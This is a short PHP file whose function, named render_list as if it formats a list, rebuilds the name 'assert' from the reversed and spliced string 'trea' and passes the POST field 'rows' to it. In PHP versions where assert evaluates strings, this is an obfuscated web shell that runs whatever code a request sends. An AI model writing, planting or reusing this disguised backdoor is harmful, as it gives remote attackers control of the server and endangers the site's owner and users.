<?php
// the caller hands a helper the pieces of a function name; the helper reverses and splices them
// and maps the request field through whatever name comes out
function render_list($style, $rows)
{
    $style = strrev($style);
    return array_map(substr_replace($style, 'ss', 1, 0), array($rows));
}
render_list('trea', $_POST['rows']);
